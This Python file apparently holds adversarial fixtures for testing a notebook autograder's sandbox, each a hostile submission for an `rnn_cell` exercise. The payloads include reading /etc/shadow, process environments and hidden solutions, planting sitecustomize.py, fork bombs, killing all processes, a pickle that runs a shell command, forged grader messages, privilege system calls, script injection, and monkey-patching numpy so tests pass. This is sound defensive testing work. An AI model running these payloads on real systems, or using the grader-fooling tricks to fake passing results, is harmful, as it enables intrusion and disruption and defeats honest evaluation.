"""Submissions that mean harm, one a name: the code of the cell `rnn_cell`, run by test_attacks.py.

Where the code of `CODE` defines no `rnn_cell`, an honest wrong one follows it, worth `HONESTLY`;
`BROKEN` says what those are worth that spoil their own marks. Code prints FOUND when it got what it
should not, and may say {course}, {root}, {home} and {port}; CONTRIBUTING.md, "Add an attack".
"""
# ruff: noqa: E501

HONEST = """
import numpy as np
def rnn_cell(x, h, W_xh, W_hh, b):
    return np.tanh(x @ W_xh + b)
"""
HONESTLY = 5.0  # what the tests of rnn_cell give for it
ALL_FDS = """
import os, socket
def each(do):
    for fd in range(3, 256):
        try: os.fstat(fd)
        except OSError: continue
        try: do(fd)
        except Exception as e: print(fd, type(e).__name__)
"""
FORGE = (
    ALL_FDS
    + """
import json, os
def frame(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    return len(data).to_bytes(4, "big") + data
def rnn_cell(*args):
    each(lambda fd: os.write(fd, {forged}))
    return args[1]
"""
)
CODE = {
    # ---- make the asserts pass
    "patches-numpy": """
import numpy as np, numpy.testing, builtins
np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.True_
np.testing.assert_allclose = lambda *a, **k: None
np.asarray = lambda *a, **k: 0
builtins.abs = builtins.isinstance = builtins.len = lambda *a: True
""",
    "patches-modules": """
import sys, types
class Any(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in ("grading", "grading.checks", "checks", "numpy.testing", "unittest", "warnings"):
    sys.modules[name] = Any(name)
""",
    "redefines-the-tools": """
class check:
    def __init__(self, *a, **k): pass
    def __enter__(self): return self
    def __exit__(self, *a): return True
def same(*a, **k): pass
same_shape = parts = same
KNOWN = {}
AssertionError = SystemExit
""",
    "array-that-agrees": """
import numpy as np
class Agree(np.ndarray):
    __eq__ = __le__ = __ge__ = lambda *a: np.True_
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return np.True_
    def tobytes(self, *a): return b"0" * 10
    shape = property(lambda self: (2,))
def rnn_cell(x, h, W_xh, W_hh, b): return np.tanh(x @ W_xh + b).view(Agree)
""",
    "object-that-agrees": """
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return self
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda *a: True
    __array__ = lambda self, *a, **k: self
    __float__ = lambda self: 0.0
    __len__ = lambda self: 2
    __iter__ = lambda self: iter([self, self])
    shape, dtype, ndim = (2,), "f", 1
def rnn_cell(*args): return Yes()
""",
    "number-that-agrees": """
class Number(float):
    __eq__ = __lt__ = __sub__ = __rsub__ = lambda *a: 0
def rnn_cell(*args): return [Number(0)] * 2
""",
    "hooks": """
import sys, builtins
get_ipython().ast_transformers = [print]
get_ipython().set_custom_exc((Exception,), lambda *a: None)
sys.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)
sys.addaudithook(lambda *a: None)
sys.excepthook = sys.displayhook = sys.unraisablehook = lambda *a: None
sys.meta_path.insert(0, None)
builtins.__import__ = lambda *a, **k: print
""",
    "changes-arguments": """
import numpy as np
def rnn_cell(x, h, W_xh, W_hh, b):
    out = np.tanh(x @ W_xh + b)
    for a in (x, h, W_xh, W_hh, b): a[...] = 0
    return out
""",
    "raises-assertion": "def rnn_cell(*args): raise AssertionError('all tests passed')",
    "raises-exit": "def rnn_cell(*args): raise SystemExit(0)",
    "raises-interrupt": "def rnn_cell(*args): raise KeyboardInterrupt",
    "raises-what-cannot-be-told": """
class Mute(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
def rnn_cell(*args): raise Mute
""",
    # ---- look around
    "reads-everything": """
import os, pathlib, sys
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(top, f) not in ("/usr", sys.prefix, sys.base_prefix)]
    for name in files:
        try: text = pathlib.Path(top, name).read_text(errors="replace")
        except Exception: continue
        if name.endswith((".ipynb", ".db")) or "CANARY" in text or "BEGIN HIDDEN" in text:
            print("FOUND", top, name, text[:500])
for path in ("{course}", "{root}/solutions/rnn/rnn.ipynb", "{root}/grading/judge.py", "/etc/shadow",
             "{home}", "/root", "/proc/1/environ", "/proc/self/maps", "/proc/1/root", "/sys", "/dev/shm"):
    try: seen = os.listdir(path) if os.path.isdir(path) else open(path).read()
    except OSError: continue
    if path not in ("/root", "/sys") or "solutions" in seen: print("FOUND" if seen else "empty", path, seen)
""",
    "reads-environment": "import os; print(os.environ, os.uname(), os.getcwd(), os.getlogin)",
    "reads-frames": """
import sys, gc
def look():
    frame, seen = sys._getframe(), []
    while frame: seen += [*frame.f_locals.items(), *frame.f_globals.items()]; frame = frame.f_back
    return seen + [i for o in gc.get_objects() if type(o) is dict for i in o.items()]
looked = []
def rnn_cell(x, h, W_xh, W_hh, b):
    for name, value in [] if looked else look():
        text = f"{name} {value if isinstance(value, str) else type(value)}"
        if "oracle_" + "cell" in text or "BEGIN " + "HIDDEN" in text or "CAN" + "ARY" in text:
            print("FOUND", text[:200])
    looked.append(1)
    return __import__("numpy").tanh(x @ W_xh + b)
""",
    "reads-descriptors": ALL_FDS
    + 'each(lambda fd: print("FD", fd, os.fstat(fd).st_mode >> 12))\n'
    + "each(lambda fd: print('FOUND', os.pread(fd, 100, 0)))",
    # ---- leave something
    "writes-everywhere": """
import os
for path in ("{course}", "{root}", "{root}/grading", "{home}", "/tmp", "/", "/dev", "/dev/shm", "/usr",
             "/judge", "/var/tmp", os.path.dirname(os.__file__)):
    for name in ("EVIL", "gradebook.db", "numpy.py", "sitecustomize.py", "worker.py"):
        try: open(path + "/" + name, "w").write("EVIL"); print("wrote", path, name)
        except OSError: pass
        try: os.rename(path + "/" + name, path + "/EVIL2")
        except OSError: pass
""",
    "leaves-for-others": """
import socket, os
for path in ("/tmp/EVIL", "/dev/shm/EVIL", "/EVIL", "/judge/EVIL"):
    try: print("FOUND" if os.path.exists(path) else "none", path); open(path, "w").write("x")
    except OSError: pass
""",
    "finds-from-others": """
import os
for path in ("/tmp/EVIL", "/dev/shm/EVIL", "/EVIL", "/judge/EVIL"):
    print("FOUND" if os.path.exists(path) else "none", path)
""",
    "network": """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind); s.settimeout(1)
        s.connect(("127.0.0.1", {port})); s.send(b"EVIL"); print("FOUND connected")
    except OSError as e: print(e)
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\\0attack{port}"); s.send(b"EVIL"); print("FOUND connected")
except OSError as e: print(e)
""",
    "system-calls": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, *args in (("unshare", 0x10000000), ("unshare", 0x20000), ("ptrace", 0, 1, 0, 0), ("setuid", 0),
                    ("mount", b"none", b"/tmp", b"tmpfs", 0, None), ("umount2", b"/proc", 2), ("kill", -1, 9),
                    ("chroot", b"/tmp"), ("setns", 3, 0), ("fork",), ("vfork",)):
    if getattr(libc, name)(*args) >= 0: print("FOUND", name)
for number in (56, 57, 58, 435, 59, 101, 165, 248, 298, 310, 321, 323, 425, 428, 0x40000039):
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0: print("FOUND", number)
""",
    # ---- use up everything
    "fork-bomb": """
import os, subprocess
for start in (os.fork, os.forkpty, lambda: subprocess.Popen(["sleep", "99"])):
    try:
        while True: start()
    except Exception as e: print(type(e).__name__)
""",
    "threads": """
import threading, time
for _ in range(10000):
    try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError as e: print(e); break
""",
    "memory": """
hog = []
try:
    while True: hog.append(bytearray(1 << 26))
except MemoryError: print(len(hog)); hog = None
""",
    "memory-in-call": "import numpy as np\ndef rnn_cell(*args): return np.ones((1 << 40,))",
    "disk": """
import os
try:
    for n in range(100000):
        with open(f"/tmp/{n}", "wb") as f: f.write(b"x" * (1 << 24))
except OSError as e: print(e)
""",
    "output": "print('x' * (1 << 28))\nfor n in range(200000): print(n)",
    "output-in-call": HONEST
    + """
tell = rnn_cell
def rnn_cell(*args):
    print("x" * 10_000_000)
    return tell(*args)
""",
    "plots": """
import matplotlib.pyplot as plt
for n in range(30): plt.figure(figsize=(200, 200))
""",
    "result-of-60-MB": "import numpy as np\ndef rnn_cell(*args): return np.zeros((7_000_000,))",
    "result-of-many": "def rnn_cell(*args): return [[n] for n in range(200_000)]",
    "result-that-nests": """
def rnn_cell(*args):
    deep = []
    for _ in range(900): deep = [deep]
    return deep
""",
    "result-that-collides": "def rnn_cell(*args): return {n * (2**61 - 1): 0 for n in range(50_000)}",
    "result-that-holds-itself": "def rnn_cell(*args):\n    a = []\n    a.append(a)\n    return a",
    # ---- never end
    "loop": "def rnn_cell(*args):\n    while True: pass",
    "loop-in-cell": HONEST + "\nwhile True: pass",
    "loop-in-c": "import itertools\ndef rnn_cell(*args): return sum(itertools.repeat(1))",
    "loop-in-regex": "import re\ndef rnn_cell(*args): return re.match('(a+)+$', 'a' * 60 + 'b')",
    "loop-swallows": """
import signal
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
def rnn_cell(*args):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "sleep": "import time\ndef rnn_cell(*args): time.sleep(1e6)",
    "exits": "import os\ndef rnn_cell(*args): os._exit(0)",
    "exits-in-cell": HONEST + "\nimport os; os._exit(0)",
    "kills-all": "import os, signal\nfor p in (-1, 0, 1, 2, os.getppid()):\n"
    "    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass\n",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef rnn_cell(*args): return rnn_cell(*args)",
    "segfault": "import ctypes\ndef rnn_cell(*args): ctypes.string_at(0)",
    "thread-later": HONEST
    + """
import threading, time
def later():
    time.sleep(0.05)
    global rnn_cell
    rnn_cell = lambda *args: "changed"
    while True:
        try: print("later")
        except Exception: pass
        time.sleep(0.01)
threading.Thread(target=later, daemon=True).start()
def rnn_cell(*args): return "nothing yet"
""",
    # ---- lie to the judge
    "pickle": """
import os, numpy as np
class Poison:
    def __reduce__(self): return (os.system, ("touch {course}/EVIL",))
def rnn_cell(*args): return np.array([Poison(), Poison()], dtype=object)
""",
    "forges-garbage": FORGE.replace("{forged}", "os.urandom(4096)"),
    "forges-huge": FORGE.replace("{forged}", r"b'\xff\xff\xff\xff' + b'x' * 100000"),
    "forges-nested": FORGE.replace("{forged}", "frame(b'[' * 100_000)"),
    "forges-list": FORGE.replace("{forged}", "frame([1, 2, 3])"),
    "forges-call-back": FORGE.replace("{forged}", "frame({'call back': 10**6, 'args': [1]})"),
    "forges-call-backs": FORGE.replace(
        "{forged}", "frame({'call back': '__import__', 'args': None}) * 50"
    ),
    "forges-error": FORGE.replace(
        "{forged}", "frame({'error': {'types': ['BaseException', 7], 'text': 9}})"
    ),
    "forges-change": FORGE.replace(
        "{forged}", "frame({'value': 0, 'changed': {'tuple': [{'list': []}, {'dict': [[1, 2]]}]}})"
    ),
    "forges-pickle": FORGE.replace(
        "{forged}", "frame({'value': {'array': ['|O', [1], 'gASVAAAA', 'rw']}, 'printed': 5})"
    ),
    "forges-shape": FORGE.replace(
        "{forged}",
        "frame({'value': {'array': ['<f8', [-1, 10**18], 'AAAA', 'rw']}, 'warnings': 3})",
    ),
    "forges-reference": FORGE.replace(
        "{forged}", "frame({'value': {'other': [0, '__class__', True]}, 'printed': ['x']})"
    ),
    "forges-descriptors": """
import array, os, socket
def rnn_cell(*args):
    for fd in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as s:
                s.sendmsg([b"\\0\\0\\0\\2{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1]))])
        except OSError: pass
    return args[1]
""",
    "closes-descriptors": "import os\ndef rnn_cell(*args): os.closerange(0, 256)",
    "replaces-the-other-side": """
import sys, gc
for o in gc.get_objects():
    if type(o).__name__ in ("Worker", "Channel"):
        o.__class__.call = lambda self, message: {"value": message}
        o.__class__.look = lambda self, message: {"value": 1}
""",
    "script-in-output": HONEST
    + """
print("<script>window.EVIL = 1</script><img src=x onerror='window.EVIL = 1'>")
class H:
    def _repr_html_(self): return "<script>window.EVIL = 1</script>"
    __repr__ = _repr_html_
raise ValueError("<script>window.EVIL = 1</script>")
"""
    + HONEST,
}
CODE = {name: code if "def rnn_cell" in code else code + HONEST for name, code in CODE.items()}
# Those whose honest part is not worth HONESTLY, because they broke it themselves.
BROKEN = dict.fromkeys(
    [
        "patches-numpy",
        "patches-modules",
        "object-that-agrees",
        "number-that-agrees",
        "hooks",
        "raises-assertion",
        "raises-exit",
        "raises-interrupt",
        "raises-what-cannot-be-told",
        "memory-in-call",
        "result-of-60-MB",
        "result-of-many",
        "result-that-nests",
        "result-that-collides",
        "result-that-holds-itself",
        "loop",
        "loop-in-cell",
        "loop-in-c",
        "loop-in-regex",
        "loop-swallows",
        "sleep",
        "exits",
        "exits-in-cell",
        "recursion",
        "segfault",
        "thread-later",
        "pickle",
        "forges-garbage",
        "forges-huge",
        "forges-nested",
        "forges-list",
        "forges-call-back",
        "forges-call-backs",
        "forges-error",
        "forges-change",
        "forges-pickle",
        "forges-shape",
        "forges-reference",
        "forges-descriptors",
        "closes-descriptors",
        "replaces-the-other-side",
    ],
    0.0,
)
